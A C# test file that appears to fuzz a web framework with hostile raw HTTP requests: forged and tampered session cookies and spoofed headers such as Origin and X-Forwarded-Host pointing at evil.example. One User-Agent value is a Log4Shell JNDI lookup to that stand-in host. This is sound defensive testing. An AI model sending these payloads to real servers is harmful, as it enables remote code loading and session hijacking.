using System.Text;
using IonFunctions.Core.Sessions;

namespace IonFunctions.Tests.RawRequests;

/// <content>What they say beside it: cookies of all sorts, and the headers by which somebody may want to be taken for somebody else.</content>
internal sealed partial class HostileRequests
{
    /// <summary>Appends a cookie or some; tells whether a session's is among them.</summary>
    private bool AppendCookies(StringBuilder request, bool maySignIn)
    {
        if (!Chance(1.4))
        {
            return false;
        }

        var session = world.Sessions[_random.Next(world.Sessions.Count)];
        var (name, value, _) = world.SignIns[_random.Next(world.SignIns.Count)];
        var isSignedIn = maySignIn && Chance(12);
        var cookies = _random.Next(10) switch
        {
            _ when isSignedIn => Pick($"{world.SessionCookie}={session}", $"a=b; {world.SessionCookie}={session}", $"{name}={value}; {world.SessionCookie}={session}"),
            0 => $"{world.SessionCookie}={Unknown()}",
            1 => $"{world.SessionCookie}={Other(session)}",
            2 => $"{name}={Changed(value)}",
            3 => $"{name[..^1]}={value}",
            4 => $"{name}={value}; {name}={Changed(value)}",
            5 => string.Concat(Enumerable.Repeat($"{world.SessionCookie}=x; ", _random.Next(60))) + "a=b",
            6 => string.Join("; ", Enumerable.Range(0, _random.Next(80)).Select(i => $"ion-signin-{i:x8}{world.CookieSuffix}=AQ{i:x6}")),
            7 => $"__Host-ion-session={Unknown()}; ION-SESSION{world.CookieSuffix}={Unknown()}",
            8 => Pick("=", ";;;", "=x", "x", "\"", "ion-session", "a=" + new string('x', 6_000), "$Version=1; a=b", $"{world.SessionCookie}=\"{new string('A', 43)}\"", $"{world.SessionCookie}={new string('A', 44)}"),
            _ => Visible(_random.Next(200)),
        };
        request.Append(Chance(10) ? "cookie:" : "Cookie: ").Append(cookies).Append("\r\n");
        return isSignedIn;
    }

    private string Unknown() => Chance(3) ? new('A', 43) : Convert.ToBase64String(RandomBytes(32)).TrimEnd('=').Replace('+', '-').Replace('/', '_');

    // One of 2^256 that could be somebody else's, or none at all; never the one that it was, which white space before a value does not change.
    private string Other(string session) => Changed(session) is var changed && SessionId.Parse(changed.Trim()) is null ? changed : session[..42];

    private byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        _random.NextBytes(bytes);
        return bytes;
    }

    private void AppendHeaders(StringBuilder request)
    {
        for (var i = _random.Next(6); i > 0; i--)
        {
            var (name, value) = Header();
            request.Append(name).Append(": ").Append(value).Append("\r\n");
        }
    }

    private (string Name, string Value) Header() => _random.Next(30) switch
    {
        0 => ("Origin", Pick("https://evil.example", "null", "https://pages.example", "http://" + world.Authority, "http://" + world.Authority + ".evil.example", "", "//", "https://pages.example, null")),
        1 or 2 => ("Sec-Fetch-Site", Pick("same-origin", "same-site", "cross-site", "none", "", "SAME-ORIGIN", "same-origin, cross-site")),
        3 or 4 => ("Sec-Fetch-Mode", Pick("navigate", "cors", "no-cors", "websocket", "nested-navigate", "")),
        5 => ("Sec-Fetch-Dest", Pick("document", "image", "script", "iframe", "empty", "x")),
        6 or 7 => ("Accept", Pick("text/html", "application/json", "*/*", "text/html;q=0", "text/html;q=x", "*/*;q=0.1, text/html;level=1;q=0.9", new string(',', 500), "")),
        8 => ("X-Forwarded-Host", "evil.example"),
        9 => ("X-Forwarded-Proto", Pick("https", "javascript", "http, https")),
        10 => ("X-Forwarded-For", Pick("127.0.0.1", "::1, 10.0.0.1", new string('1', 300))),
        11 => ("Forwarded", "for=127.0.0.1;host=evil.example;proto=https"),
        12 => (Pick("X-Original-URL", "X-Rewrite-URL", "X-Original-Host", "DISGUISED-HOST", "X-HTTP-Method-Override", "X-HTTP-Method"), Pick("/api/logout", "DELETE", "evil.example")),
        13 => ("Range", Pick("bytes=0-", "bytes=-1", "bytes=0-0,1-1,2-2", "bytes=9-1", "bytes=99999999999999999999-", "items=1")),
        14 => ("If-None-Match", Pick("*", "\"\"", "W/\"x\"", "x", "\"" + new string('a', 900) + "\"", "\"caf\u00e9\"")),
        15 => (Pick("If-Modified-Since", "If-Unmodified-Since", "If-Range", "Date"), Pick("Tue, 01 Sep 2026 08:00:00 GMT", "yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", "-1")),
        16 => ("If-Match", Pick("*", "\"x\"")),
        17 or 18 => ("Accept-Encoding", Pick("gzip", "br", "gzip;q=0", "*;q=0", "identity;q=0", "zstd, gzip;q=x", new string(';', 300), "")),
        19 => ("traceparent", Pick("00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "00-00000000000000000000000000000000-0000000000000000-00", "ff-x", Visible(55))),
        20 => (Pick("tracestate", "baggage", "Correlation-Context", "Request-Id"), Visible(_random.Next(200))),
        21 => ("User-Agent", Pick("curl", "", "caf\u00e9", "\u009b31m", Visible(300), "${jndi:ldap://evil.example}")),
        22 => ("Referer", Pick("https://evil.example/", "", Visible(100))),
        23 => ("Authorization", Pick("Bearer x", "Basic !", "", Visible(100))),
        24 => (Pick("Purpose", "Sec-Purpose", "X-Moz"), Pick("prefetch", "prefetch;prerender", "x")),
        25 => (Pick("Upgrade", "HTTP2-Settings"), Pick("h2c", "websocket", "x")),
        26 => (Pick("TE", "Trailer", "Via", "Max-Forwards", "Pragma", "Cache-Control", "Accept-Language", "DNT"), Pick("trailers", "0", "no-cache", "1.1 x", "fran\u00e7ais")),
        27 => ("Content-Type", Pick("application/json", "a/b; c=\"", "")),
        28 => (Pick(world.IsBehindHost ? "x-ms-client-request-id" : "x-ms-invocation-id", "x-ms-client-principal", "X-ARR-SSL", "x-functions-key", "X-Azure-FDID", "X-Injected"), Visible(40)),
        _ => ("X-" + _random.Next(), Visible(_random.Next(400))),
    };
}
